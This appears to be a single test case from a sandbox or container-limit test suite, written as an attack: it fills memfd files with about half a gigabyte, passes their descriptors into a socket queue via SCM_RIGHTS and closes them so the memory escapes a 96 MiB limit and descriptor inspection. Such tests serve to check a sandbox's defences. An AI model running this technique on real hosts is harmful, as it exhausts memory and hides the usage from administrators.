"""Takes memory in files that no process has open: their descriptors lie in a socket's queue.

Would gain: the host's memory, unseen by whoever goes through the processes' descriptors.
"""
import array
import os
import socket
import time

from inside import main, say


def attack():
    near, far = socket.socketpair()
    block = b"x" * (1 << 20)
    for _ in range(8):
        fd = os.memfd_create("x")
        for _ in range(64):
            os.write(fd, block)
        near.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
        os.close(fd)
    time.sleep(4)
    say(attempt="half a gigabyte in a queue", got=True, errno=None)
    far.close()


def host(case):
    yield {"flags": ["--memory", "96MiB"]}


if __name__ == "__main__":
    main(attack)
